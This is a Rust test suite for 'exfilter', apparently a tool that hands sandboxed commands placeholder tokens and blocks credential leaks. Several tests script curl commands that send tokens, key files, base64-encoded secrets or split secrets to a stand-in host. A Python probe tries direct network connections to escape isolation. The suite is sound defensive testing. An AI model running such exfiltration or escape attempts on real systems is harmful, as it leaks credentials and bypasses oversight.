//! `exfilter run`: what the command sees, what leaves it, and what is told.

use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::harness::{Run, Sandbox, github_token, secret};
use crate::upstream::{Answer, Arrived, Upstream};

/// A command's environment and its servers.
pub(crate) struct Stage {
    pub(crate) sandbox: Sandbox,
    pub(crate) server: Upstream,
}

fn echo(request: &Arrived) -> Answer {
    let body = format!("got {}", request.header("authorization").unwrap_or_default());
    Answer { status: 200, headers: Vec::new(), body: body.into_bytes() }
}

impl Stage {
    pub(crate) fn new() -> Stage {
        let sandbox = Sandbox::new();
        let server = Upstream::start(&["api.github.com", "other.example.com"], &[b"http/1.1"], echo);
        std::fs::write(sandbox.top().join("upstream.pem"), &server.ca).unwrap();
        Stage { sandbox, server }
    }

    pub(crate) fn command(&self, args: &[&str], command: &[&str]) -> Command {
        let mut all: Vec<String> =
            vec!["run".into(), "--no-store".into(), "--upstream-ca".into(), "upstream.pem".into()];
        for host in ["api.github.com", "other.example.com"] {
            all.extend(["--resolve".into(), format!("{host}:443:{}", self.server.tls)]);
        }
        all.extend(args.iter().map(ToString::to_string));
        all.push("--".into());
        all.extend(command.iter().map(ToString::to_string));
        self.sandbox.command(&all)
    }

    pub(crate) fn run(&self, args: &[&str], variables: &[(&str, &str)], command: &[&str]) -> Run {
        self.sandbox.finish(self.command(args, command).envs(variables.iter().copied()))
    }
}

/// Whether there are namespaces here.
pub(crate) fn isolates(stage: &Stage) -> bool {
    let probe = stage.run(&["--isolate"], &[], &["true"]);
    let may = probe.code != Some(2) || !probe.stderr.contains("--isolate");
    if may {
        probe.exits_with(0);
    } else {
        eprintln_skipped("bwrap with namespaces");
    }
    may
}

pub(crate) fn has(program: &str) -> bool {
    let ran = Command::new(program).arg("--version").stdout(Stdio::null()).stderr(Stdio::null()).status();
    let is_there = ran.is_ok_and(|status| status.success());
    if !is_there {
        eprintln_skipped(program);
    }
    is_there
}

#[expect(clippy::print_stderr, reason = "a test that is skipped says so")]
pub(crate) fn eprintln_skipped(program: &str) {
    eprintln!("skipped: {program} is not on this machine");
}

/// The README's first command: whoever has nothing yet sees what it does.
#[test]
fn the_demonstration_is_as_it_says() {
    let sandbox = Sandbox::new();
    // Secrets of whoever runs it, and a proxy that is not there, are no part of it.
    let (token, proxy) = (github_token(), "http://127.0.0.1:9");
    let mut command = sandbox.command(&["run", "--demo"]);
    command.envs([("GH_TOKEN", token.as_str()), ("HTTPS_PROXY", proxy), ("https_proxy", proxy)]);
    let run = sandbox.finish(&mut command).exits_with(0);
    let run = run
        .prints("\nas it should be\n")
        .prints("the token once")
        .prints("the password not at all")
        .prints_not("! ");
    assert_eq!(run.stdout.matches("  200  ").count(), 4, "{run:#?}");
    assert_eq!(run.stdout.matches("  422  ").count(), 10, "{run:#?}");
    let run =
        run.notes("GITHUB_TOKEN is a placeholder").notes("4 requests").notes("DEPLOY_PASSWORD, in pieces");
    assert!(!run.stderr.contains("GH_TOKEN"), "{run:#?}");
    for text in [&run.stdout, &run.stderr] {
        assert!(!text.contains("ghp_"), "{run:#?}");
    }
    sandbox.run(&["run"]).exits_with(2).notes("COMMAND");
    sandbox.run(&["run", "--demo", "--", "true"]).exits_with(2);
    sandbox.run(&["demo-client", "."]).exits_with(2).notes("run exfilter run --demo");
}

#[test]
fn the_command_gets_placeholders() {
    let stage = Stage::new();
    let (token, password, bare) = (github_token(), secret(20), secret(32));
    let database = format!("postgres://me:{password}@db.example.com/x");
    let header = format!("AUTHORIZATION: bearer {token}x and {token}");
    let variables = [
        ("GH_TOKEN", token.as_str()),
        ("ANOTHER_NAME", &token),
        ("DATABASE_URL", &database),
        ("SOME_TOKEN", &bare),
        ("GIT_CONFIG_VALUE_0", &header),
        ("EXFILTER_STORE_KEY", "not for the command"),
        ("NO_PROXY", "*"),
        ("PLAIN", "as it is"),
    ];
    let run = stage.run(&[], &variables, &["env"]).exits_with(0);
    let value = |name: &str| {
        let line = run.stdout.lines().find_map(|line| line.strip_prefix(&format!("{name}=")));
        line.map(ToOwned::to_owned)
    };
    let placeholder = value("GH_TOKEN").unwrap();
    assert!(placeholder.starts_with("ghp_") && placeholder.len() == token.len(), "{run:#?}");
    assert_eq!(value("ANOTHER_NAME").unwrap(), placeholder);
    for gone in ["DATABASE_URL", "SOME_TOKEN", "GIT_CONFIG_VALUE_0", "EXFILTER_STORE_KEY"] {
        assert_eq!(value(gone), None, "{run:#?}");
    }
    assert_eq!(value("PLAIN").unwrap(), "as it is");
    assert_eq!((value("NO_PROXY").unwrap(), value("no_proxy").unwrap()), (String::new(), String::new()));
    let proxy = value("https_proxy").unwrap();
    assert!(proxy.starts_with("http://127.0.0.1:"));
    for name in ["HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "all_proxy"] {
        assert_eq!(value(name).unwrap(), proxy);
    }
    let bundle = value("SSL_CERT_FILE").unwrap();
    for name in
        ["NODE_EXTRA_CA_CERTS", "GIT_SSL_CAINFO", "REQUESTS_CA_BUNDLE", "PIP_CERT", "npm_config_cafile"]
    {
        assert_eq!(value(name).unwrap(), bundle);
    }
    assert!(!Path::new(&bundle).exists(), "the folder is deleted at the end");
    let run = run
        .notes("ANOTHER_NAME is a placeholder; the real value goes to *.pkg.github.com, api.github.com, ghcr.io and 2 more alone")
        .notes("SOME_TOKEN is taken away: nobody knows where it belongs")
        .notes("DATABASE_URL is taken away")
        .notes("GIT_CONFIG_VALUE_0 is taken away: a secret stands in its value")
        .notes("nothing left");
    assert!(!run.stderr.contains("PLAIN"));
    // Kept as it is, if that is wished.
    let plain = [("SOME_TOKEN", bare.as_str())];
    let run = stage.run(&["--keep", "SOME_*"], &plain, &["sh", "-c", "test ${#SOME_TOKEN} = 32"]);
    run.exits_with(0).notes("SOME_TOKEN is passed on as it is");
    let run = stage.run(&["--observe"], &plain, &["sh", "-c", "test ${#SOME_TOKEN} = 32"]);
    run.exits_with(0);
}

#[test]
fn real_values_leave_in_requests_alone() {
    if !has("curl") {
        return;
    }
    let stage = Stage::new();
    let token = github_token();
    let variables = [("GH_TOKEN", token.as_str())];
    let ask = "curl -sS -H \"Authorization: Bearer $GH_TOKEN\" ";
    let script = format!("{ask} https://api.github.com/user; {ask} https://other.example.com/x");
    let run = stage.run(&[], &variables, &["sh", "-c", &script]).exits_with(0);
    let arrived = stage.server.requests();
    assert_eq!(arrived.len(), 1, "{run:#?}");
    assert_eq!(arrived[0].header("authorization").unwrap(), format!("Bearer {token}"));
    let stars = "*".repeat(token.len());
    run.prints(&format!("got Bearer {stars}"))
        .prints("secret detected in header:authorization:bearer (github-pat)")
        .notes("https://api.github.com:443  1 request, 0 B, 1 request with a real credential put in")
        .notes("https://other.example.com:443  secret detected in header:authorization:bearer (github-pat)");

    // A key that comes from a file, and the environment's own in another writing.
    let (other, value) = (github_token(), secret(40));
    std::fs::write(stage.sandbox.top().join("notes.txt"), format!("key: {other}\n")).unwrap();
    let coded = crate::harness::base64(value.as_bytes());
    stage.server.forget();
    let script = format!(
        "curl -sS --data-binary @notes.txt https://other.example.com/; curl -sS -d {coded} https://other.example.com/"
    );
    let mut command = stage.command(&["--allow", "other.example.com"], &["sh", "-c", &script]);
    let run = stage.sandbox.finish(command.env("SOME_TOKEN", &value)).exits_with(0);
    assert!(stage.server.requests().is_empty());
    // What sent it learns nothing of an enrolled one.
    run.prints("blocked by policy, reference ")
        .notes("secret detected in body (SOME_TOKEN)")
        .notes("nothing left");
    let run = stage.run(&["--allow", "other.example.com"], &[], &["curl", "-sS", "https://api.github.com/"]);
    run.exits_with(56).notes("not one of those that may be reached");
    // Observed, it leaves and is told of.
    let run = stage.run(
        &["--observe"],
        &[],
        &["curl", "-sS", "--data-binary", "@notes.txt", "https://other.example.com/"],
    );
    run.exits_with(0).notes("github-pat (high) in body").notes("what was found, and would be stopped");
}

#[test]
fn what_leaves_in_pieces_is_put_together() {
    if !has("curl") {
        return;
    }
    let stage = Stage::new();
    let value = secret(40);
    let pieces: Vec<&str> = (0..5).map(|n| &value[8 * n..8 * n + 8]).collect();
    let asks = pieces.iter().map(|piece| {
        format!(
            "curl -sS -o /dev/null -w '%{{http_code}} ' -d 'a piece: {piece}' https://other.example.com/;"
        )
    });
    let script: String = asks.collect();
    let run = stage.run(&[], &[("SOME_TOKEN", &value)], &["sh", "-c", &script]).exits_with(0);
    let left = stage.server.requests().len();
    // Which windows of a drawn value count depends on its characters, so it may take a piece more.
    assert!((2..=3).contains(&left), "{run:#?}");
    run.notes("secret detected in body (SOME_TOKEN, in pieces)");
}

#[test]
fn after_repeated_hits_nothing_leaves_any_more() {
    if !has("curl") {
        return;
    }
    let stage = Stage::new();
    let path = stage.sandbox.top().join("policy.toml");
    std::fs::write(&path, "version = 1\n[quarantine]\nhits = 2\n").unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
    let value = secret(40);
    let post = |body: &str| format!("curl -sS -d '{body}' https://other.example.com/;");
    let script =
        [post("clean"), post(&value), post("clean"), post(&format!("again {value}")), post("clean")].concat();
    let args = ["--policy", "policy.toml", "--log", "run.log"];
    let run = stage.run(&args, &[("SOME_TOKEN", &value)], &["sh", "-c", &script]).exits_with(0);
    assert_eq!(stage.server.requests().len(), 2, "{run:#?}");
    run.notes("the session is in quarantine and nothing leaves any more").notes(
        "put in quarantine after repeated hits, the last one on its way to https://other.example.com:443",
    );
    let log = std::fs::read_to_string(stage.sandbox.top().join("run.log")).unwrap();
    let began: Vec<usize> =
        (0..7).filter(|n| log.lines().nth(*n).unwrap().contains("\"quarantine\":true")).collect();
    // Between the lines that say that the run begins and ends.
    assert_eq!((began, log.lines().count()), (vec![4], 7));
    // Another run is another session.
    let again = stage.run(&args, &[("SOME_TOKEN", &value)], &["sh", "-c", &post("clean")]);
    again.exits_with(0);
    assert_eq!(stage.server.requests().len(), 3);
}

#[test]
fn the_policy_file_decides_too() {
    if !has("curl") {
        return;
    }
    let stage = Stage::new();
    let write = |text: &str| {
        let path = stage.sandbox.top().join("policy.toml");
        std::fs::write(&path, text).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
    };
    let policy = &["--policy", "policy.toml"][..];
    write("version = 1\n[hosts]\ndeny = [\"other.example.com\"]\n");
    let run = stage.run(policy, &[], &["curl", "-sS", "https://other.example.com/"]);
    run.exits_with(56).notes("not one of those that may be reached");
    stage.run(policy, &[], &["curl", "-sS", "https://api.github.com/"]).exits_with(0);
    // A mode that only observes leaves the environment alone, too.
    write("version = 1\nmode = \"observe\"\n");
    let plain = [("SOME_TOKEN", "x".repeat(32))];
    let plain = plain.each_ref().map(|(name, value)| (*name, value.as_str()));
    stage.run(policy, &plain, &["sh", "-c", "test ${#SOME_TOKEN} = 32"]).exits_with(0);
    write("version = 1\nmood = \"observe\"\n");
    stage.run(policy, &[], &["true"]).exits_with(2).notes("policy.toml:2: mood");
}

/// A machine behind a proxy: one that cannot be used is not passed over.
#[test]
fn upstream_proxies_are_used_or_refused() {
    let stage = Stage::new();
    let word = secret(20);
    let url = |scheme: &str| format!("{scheme}://me:{word}@127.0.0.1:9");
    let socks = url("socks5");
    for (args, variables) in [
        (&["--upstream-proxy", &socks][..], &[][..]),
        (&[], &[("HTTPS_PROXY", socks.as_str())]),
        (&[], &[("all_proxy", socks.as_str())]),
    ] {
        let run = stage.run(args, variables, &["true"]).exits_with(2);
        assert!(run.stderr.contains("E_UPSTREAM_PROXY") && !run.stderr.contains(&word), "{run:#?}");
    }
    stage.run(&["--direct"], &[("HTTPS_PROXY", &socks)], &["true"]).exits_with(0);
    if !has("curl") {
        return;
    }
    // Nobody listens there.
    let http = url("http");
    let curl = ["curl", "-sS", "https://proxied.example.com/"];
    let run = stage.run(&[], &[("HTTPS_PROXY", &http)], &curl);
    assert!(run.stdout.contains("the upstream proxy cannot be reached"), "{run:#?}");
    // Hosts of the list of exceptions are looked for without it.
    let run = stage.run(&[], &[("HTTPS_PROXY", &http), ("NO_PROXY", ".example.com")], &curl);
    assert!(run.stdout.contains("could not be found or reached"), "{run:#?}");
}

/// A process that does not outlive its test.
struct Ends(std::process::Child);

impl Drop for Ends {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// `exfilter guard`: what a container gets is enough, and a socket is one too.
#[test]
fn a_guard_serves_by_itself() {
    use std::io::BufRead as _;
    if !has("curl") {
        return;
    }
    let stage = Stage::new();
    let (token, bare) = (github_token(), secret(32));
    let top = stage.sandbox.top().to_owned();
    // A guard that was killed has left its socket.
    drop(std::os::unix::net::UnixListener::bind(top.join("guard.sock")).unwrap());
    let mut args: Vec<String> =
        ["guard", "--no-store", "--upstream-ca", "upstream.pem", "--bundle", "ca.pem"]
            .map(String::from)
            .to_vec();
    for more in [
        "--metrics",
        "127.0.0.1:0",
        "--env-file",
        "sandbox.env",
        "--listen",
        "127.0.0.1:0",
        "--listen",
        "unix:guard.sock",
    ] {
        args.push(more.into());
    }
    for host in ["api.github.com", "other.example.com"] {
        args.extend(["--resolve".into(), format!("{host}:443:{}", stage.server.tls)]);
    }
    let mut command = stage.sandbox.command(&args);
    command.env("GH_TOKEN", &token).env("SOME_TOKEN", &bare).stderr(Stdio::piped());
    let mut guard = Ends(command.spawn().unwrap());
    let mut lines = std::io::BufReader::new(guard.0.stderr.take().unwrap()).lines().map(Result::unwrap);
    let notes: Vec<String> = lines.by_ref().take(5).collect();
    assert!(notes[3].contains("the guard listens at unix:guard.sock"), "{notes:?}");
    let modes = |name: &str| std::fs::metadata(top.join(name)).unwrap().permissions().mode() & 0o777;
    assert_eq!((modes("sandbox.env"), modes("guard.sock")), (0o600, 0o600));
    let variables = std::fs::read_to_string(top.join("sandbox.env")).unwrap();
    let variables: Vec<(&str, &str)> = variables.lines().map(|line| line.split_once('=').unwrap()).collect();
    let of = |name: &str| variables.iter().find(|(n, _)| *n == name).map(|(_, value)| *value);
    let placeholder = of("GH_TOKEN").unwrap();
    assert!(placeholder.starts_with("ghp_") && placeholder != token && of("SOME_TOKEN").is_none());
    let curl = |args: &[&str]| {
        let mut command = Command::new("curl");
        command.args(args).env_clear().envs(variables.iter().copied()).current_dir(&top);
        let output = command.env("PATH", std::env::var_os("PATH").unwrap()).output().unwrap();
        String::from_utf8(output.stdout).unwrap()
    };
    let header = format!("Authorization: Bearer {placeholder}");
    let said = curl(&["-sS", "-H", &header, "https://api.github.com/user"]);
    assert_eq!(said, format!("got Bearer {}", "*".repeat(token.len())));
    assert_eq!(stage.server.requests()[0].header("authorization").unwrap(), format!("Bearer {token}"));
    let said = curl(&["-sS", "-d", &token, "https://other.example.com/"]);
    assert!(said.contains("blocked by policy"), "{said}");
    // Sandboxes reach no private network but by names that are allowed.
    assert!(curl(&["-sS", "http://127.0.0.1:9/"]).contains("private network"));
    let mut socket = std::os::unix::net::UnixStream::connect(top.join("guard.sock")).unwrap();
    std::io::Write::write_all(&mut socket, b"CONNECT 127.0.0.1:9 HTTP/1.1\r\nHost: 127.0.0.1:9\r\n\r\n")
        .unwrap();
    let mut answer = [0; 12];
    std::io::Read::read_exact(&mut socket, &mut answer).unwrap();
    assert_eq!(&answer, b"HTTP/1.1 403");
    let place = notes[4].rsplit(' ').next().unwrap();
    let counts =
        Command::new("curl").args(["-sS", "--noproxy", "*"]).arg(format!("http://{place}/metrics")).output();
    let counts = String::from_utf8(counts.unwrap().stdout).unwrap();
    for line in [
        "exfilter_requests_total{conversation=\"github\",outcome=\"sent\"} 1",
        "exfilter_requests_total{conversation=\"plain\",outcome=\"refused\"} 2",
        "exfilter_requests_total{conversation=\"tunnel\",outcome=\"refused\"} 1",
        "exfilter_findings_total{confidence=\"confirmed\",action=\"block\"} 1",
        "exfilter_injected_total 1",
        "exfilter_held_bytes{where=\"file\"} 0",
    ] {
        assert!(counts.lines().any(|told| told == line), "{line} is not in {counts}");
    }
    assert!(counts.ends_with("# EOF\n") && !counts.contains("example.com"), "{counts}");
    // A second one at the same place is told so.
    let run = stage.sandbox.finish(&mut stage.sandbox.command(&args)).exits_with(2);
    assert!(run.stderr.contains("--listen unix:guard.sock: it cannot be listened on"), "{run:#?}");
    Command::new("kill").arg(guard.0.id().to_string()).status().unwrap();
    assert!(guard.0.wait().unwrap().success());
    let summary: Vec<String> = lines.collect();
    assert!(summary.iter().any(|line| line.contains("with a real credential put in")), "{summary:?}");
    assert!(!top.join("guard.sock").exists());
}

#[test]
fn exit_codes_and_signals_are_passed_on() {
    let stage = Stage::new();
    stage.run(&[], &[], &["sh", "-c", "exit 7"]).exits_with(7);
    stage.run(&[], &[], &["sh", "-c", "kill -9 $$"]).exits_with(137);
    stage.run(&[], &[], &["./is-not-there"]).exits_with(2).notes("./is-not-there: cannot be run");
    stage.run(&["--allow", "a b"], &[], &["true"]).exits_with(2).notes("--allow a b");
    let modes = "stat -c %a \"$SSL_CERT_FILE\" \"${SSL_CERT_FILE%/*}\"";
    stage.run(&[], &[], &["sh", "-c", modes]).exits_with(0).prints("600\n700\n");
    ends_by_signal(&stage, &[]);
}

/// Every request is a line, and no line can be changed unseen.
#[test]
fn requests_are_written_down_in_a_chain() {
    if !has("curl") {
        return;
    }
    let stage = Stage::new();
    let log = |run: Run| run.stderr.lines().last().unwrap().rsplit_once(' ').unwrap().1.to_owned();
    let token = github_token();
    let run = stage.run(&["--log", "run.report"], &[], &["curl", "-sS", "https://other.example.com/a"]);
    let first = log(run.exits_with(0).notes("run.report is signed by this run's key: "));
    let command = ["curl", "-sS", "-d", &token, "https://other.example.com/b"];
    let second = log(stage.run(&["--log", "run.report"], &[], &command).exits_with(0));
    let path = stage.sandbox.top().join("run.report");
    let text = std::fs::read_to_string(&path).unwrap();
    let lines: Vec<serde_json::Value> =
        text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let told: Vec<_> =
        lines.iter().map(|line| line["event"].as_str().or(line["outcome"].as_str()).unwrap()).collect();
    assert_eq!(told, ["start", "sent", "end", "start", "refused", "end"]);
    assert_eq!(
        (&lines[4]["found"][0]["what"], &lines[4]["found"][0]["action"]),
        (&"github-pat".into(), &"block".into())
    );
    assert_eq!(lines[4]["to"], "https://other.example.com:443");
    assert_eq!((lines[2]["hash"].as_str(), lines[5]["hash"].as_str()), (Some(&*first), Some(&*second)));
    let verify = |more: &[&str]| stage.sandbox.run(&[&["log", "verify", "run.report"], more].concat());
    let [one, two] = [0, 3].map(|n| lines[n]["key"].as_str().unwrap().to_owned());
    verify(&[]).exits_with(0).notes("6 lines in one chain").notes(&format!("3 lines signed by {two}\n"));
    verify(&["--head", &second, "--key", &one, "--key", &two]).exits_with(0);
    verify(&["--head", &first]).exits_with(1).notes("lines are missing");
    verify(&["--key", &one]).exits_with(1).notes("its last lines are signed by a key that was not given");
    verify(&["--key", &two, "--key", &"0".repeat(64)]).exits_with(1).notes("it was written anew");
    // Its end is missing.
    let end = text.trim_end().rfind('\n').unwrap() + 1;
    std::fs::write(&path, &text[..end]).unwrap();
    verify(&["--key", &two]).exits_with(0).notes("it did not end in order");
    std::fs::write(&path, text.replacen("\"sent\"", "\"lost\"", 1)).unwrap();
    verify(&[]).exits_with(1).notes("run.report:2: this line, or one before it, was changed");
    // A request that cannot be written down does not leave.
    let run = stage.run(&["--log", "run.report"], &[], &["true"]).exits_with(2);
    run.notes("run.report:2");
    stage.server.forget();
    let full = ["curl", "-sS", "https://other.example.com/a"];
    if Path::new("/dev/full").exists() {
        stage.run(&["--log", "/dev/full"], &[], &full).notes("exfilter");
        assert!(stage.server.requests().is_empty());
    }
}

/// A journal is shown while it is written, by a process that began before there was one.
#[test]
fn what_happens_is_shown() {
    if !has("curl") {
        return;
    }
    let stage = Stage::new();
    let mut follower = stage.sandbox.command(&["log", "show", "--follow", "run.report"]);
    let follower = follower.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let token = github_token();
    let script =
        format!("curl -sS https://other.example.com/a; curl -sS -d {token} https://other.example.com/b");
    stage.run(&["--log", "run.report"], &[], &["sh", "-c", &script]).exits_with(0);
    let run = stage.sandbox.checked(follower.wait_with_output().unwrap()).exits_with(0);
    let run = run
        .prints("  start     a run whose key is ")
        .prints("  sent      https://other.example.com:443  plain, 0 B\n");
    let run = run
        .prints("  refused   https://other.example.com:443  plain, ")
        .prints("github-pat (high) in body: block\n");
    run.prints("  end").notes("1 request left, 0 B; 1 refused\n");
    let run =
        stage.sandbox.run(&["log", "show", "--stopped", "--color", "always", "run.report"]).exits_with(0);
    run.prints("\u{1b}[1;31mrefused").prints_not("sent").notes("1 request left");
    let path = stage.sandbox.top().join("run.report");
    let text = std::fs::read_to_string(&path).unwrap();
    let show = |text: &str| {
        std::fs::write(&path, text).unwrap();
        stage.sandbox.run(&["log", "show", "run.report"])
    };
    show(&text[..text.len() - 5]).exits_with(0).notes("its last line is not whole").notes("1 refused");
    show(&format!("{text}[1]\n")).exits_with(2).notes("run.report:5: this is no record");
    stage.sandbox.run(&["log", "show", "is-not-there"]).exits_with(2).notes("it cannot be read");
}

/// A command that ends with 5 when it is asked to.
fn ends_by_signal(stage: &Stage, args: &[&str]) {
    let script = "trap 'exit 5' TERM; touch ready; i=0; while [ $i -lt 200 ]; do sleep 0.1; i=$((i+1)); done";
    let mut command = stage.command(args, &["sh", "-c", script]);
    let mut child = command.stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
    let begun = Instant::now();
    let ready = stage.sandbox.top().join("ready");
    while !ready.exists() && begun.elapsed() < Duration::from_secs(60) {
        std::thread::sleep(Duration::from_millis(20));
    }
    let killed = Command::new("kill").args(["-TERM", &child.id().to_string()]).status().unwrap();
    assert!(killed.success());
    assert_eq!(child.wait().unwrap().code(), Some(5));
    std::fs::remove_file(ready).unwrap();
}

#[test]
fn the_bundle_is_private_while_it_is_there() {
    let stage = Stage::new();
    let script = "cp -p \"$SSL_CERT_FILE\" kept.pem";
    stage.run(&[], &[], &["sh", "-c", script]).exits_with(0);
    let kept = stage.sandbox.top().join("kept.pem");
    assert_eq!(kept.metadata().unwrap().permissions().mode() & 0o777, 0o600);
    let text = std::fs::read_to_string(kept).unwrap();
    assert!(text.matches("BEGIN CERTIFICATE").count() >= 2 && !text.contains("PRIVATE"));
}

/// Every direct way out fails, and the guard's does not.
#[test]
fn isolated_commands_have_one_way_out() {
    if !has("bwrap") || !has("python3") || !has("curl") {
        return;
    }
    let stage = Stage::new();
    if !isolates(&stage) {
        return;
    }
    let script = format!(
        "import socket, os\n\
         def tried(name, call):\n\
         \x20   try: call(); print(name, 'OPEN')\n\
         \x20   except OSError as e: print(name, 'closed')\n\
         def tcp(family, address):\n\
         \x20   s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(5); s.connect(address)\n\
         def udp(family, address):\n\
         \x20   s = socket.socket(family, socket.SOCK_DGRAM); s.sendto(b'x', address)\n\
         tried('loopback', lambda: tcp(socket.AF_INET, ('127.0.0.1', {port})))\n\
         tried('ipv4', lambda: tcp(socket.AF_INET, ('192.0.2.1', 443)))\n\
         tried('ipv6', lambda: tcp(socket.AF_INET6, ('2001:db8::1', 443)))\n\
         tried('udp', lambda: udp(socket.AF_INET, ('192.0.2.1', 53)))\n\
         tried('udp6', lambda: udp(socket.AF_INET6, ('2001:db8::1', 53)))\n\
         tried('dns', lambda: print(socket.getaddrinfo('example.com', 443)))\n\
         print('others', [p for p in os.listdir('/proc') if p.isdigit() and open('/proc/' + p + '/comm').read() == 'exfilter\\n' and b'forward' not in open('/proc/' + p + '/cmdline', 'rb').read()])\n",
        port = stage.server.plain.port()
    );
    std::fs::write(stage.sandbox.top().join("direct.py"), script).unwrap();
    let run =
        stage.run(&["--isolate", "--allow", "api.github.com"], &[], &["python3", "direct.py"]).exits_with(0);
    for name in ["loopback", "ipv4", "ipv6", "udp", "udp6", "dns"] {
        assert!(run.stdout.contains(&format!("{name} closed")), "{run:#?}");
    }
    assert!(
        run.stdout.contains("others []"),
        "the guard's process, whose environment has real values, is not seen: {run:#?}"
    );
    let token = github_token();
    let script = "curl -sS -H \"Authorization: Bearer $GH_TOKEN\" https://api.github.com/user; NO_PROXY= no_proxy= curl -sS http://127.0.0.1:9/";
    let run = stage.run(&["--isolate"], &[("GH_TOKEN", &token)], &["sh", "-c", script]).exits_with(0);
    assert_eq!(stage.server.requests()[0].header("authorization").unwrap(), format!("Bearer {token}"));
    run.prints("got Bearer ****").prints("private network").notes("1 request with a real credential put in");
    stage.run(&["--isolate"], &[], &["sh", "-c", "exit 7"]).exits_with(7);
    ends_by_signal(&stage, &["--isolate"]);
}
